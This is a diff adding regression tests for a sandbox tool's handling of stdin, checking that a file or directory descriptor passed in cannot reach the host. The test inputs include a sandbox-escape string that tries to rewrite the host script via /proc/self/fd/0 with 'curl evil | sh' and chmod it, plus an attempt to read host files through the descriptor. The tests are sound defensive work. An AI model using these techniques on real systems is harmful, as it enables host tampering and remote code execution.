@@ -23,6 +23,54 @@ def test_run_prints_and_exits_with_the_command() -> None:
     assert (r.returncode, r.stdout, r.stderr) == (3, "piped in\n", "err\n")
 
 
+def test_a_file_given_as_stdin_is_only_read(tmp_path: Path) -> None:
+    """`nsbox run ... < script.sh` had handed the sandbox the host's open
+    file: it could reopen /proc/self/fd/0 to rewrite the script, and chmod
+    it. The command now reads a pipe the file is copied into."""
+    script = tmp_path / "setup.sh"
+    script.write_text("echo original\n")
+    script.chmod(0o644)
+    attack = ("readlink /proc/self/fd/0; chmod 777 /proc/self/fd/0 2>/dev/null; "
+              "echo 'curl evil | sh' 2>/dev/null > /proc/self/fd/0; head -n1")
+    with open(script) as f:
+        r = subprocess.run([*NSBOX, "run", "--", "sh", "-c", attack], stdin=f, capture_output=True, text=True,
+                           timeout=120)
+    assert r.returncode == 0, r.stderr
+    assert r.stdout.splitlines()[0].startswith("pipe:"), r.stdout
+    assert script.read_text() == "echo original\n" and script.stat().st_mode & 0o777 == 0o644
+    # A large file comes through whole, and a command that reads none of it ends all the same.
+    big = tmp_path / "big"
+    big.write_bytes(os.urandom(3 << 20))
+    with open(big, "rb") as f:
+        out = subprocess.run([*NSBOX, "run", "--", "sha256sum"], stdin=f, capture_output=True, timeout=120)
+    import hashlib
+    assert out.stdout.split()[0].decode() == hashlib.sha256(big.read_bytes()).hexdigest(), out.stderr
+    with open(big, "rb") as f:
+        out = subprocess.run([*NSBOX, "run", "--", "true"], stdin=f, capture_output=True, timeout=120)
+    assert out.returncode == 0, out.stderr
+
+
+async def test_a_directory_given_as_stdin_shows_nothing_of_the_host(tmp_path: Path) -> None:
+    """Through the API, a directory's descriptor as stdin had let the
+    sandbox read the host's whole tree (/proc/self/fd/0/../..)."""
+    import nsbox
+
+    secret = os.urandom(8).hex()
+    (tmp_path / "marker").write_text(secret)
+    fd = os.open(tmp_path, os.O_RDONLY | os.O_DIRECTORY)
+    out_r, out_w = os.pipe()
+    try:
+        async with nsbox.Sandbox() as sb:
+            code = await sb.run_forwarded(["sh", "-c", "readlink /proc/self/fd/0; cat /proc/self/fd/0/marker"],
+                                          stdin=fd, stdout=out_w, stderr=out_w)
+    finally:
+        os.close(fd)
+        os.close(out_w)
+    with os.fdopen(out_r) as f:
+        out = f.read()
+    assert code != 0 and out.startswith("pipe:") and secret not in out, out
+
+
 def test_run_forwards_large_output_whole() -> None:
     # A first read that fills the read buffer makes nsbox grow the pipe:
     # with output forwarded (not captured) that path must work too.
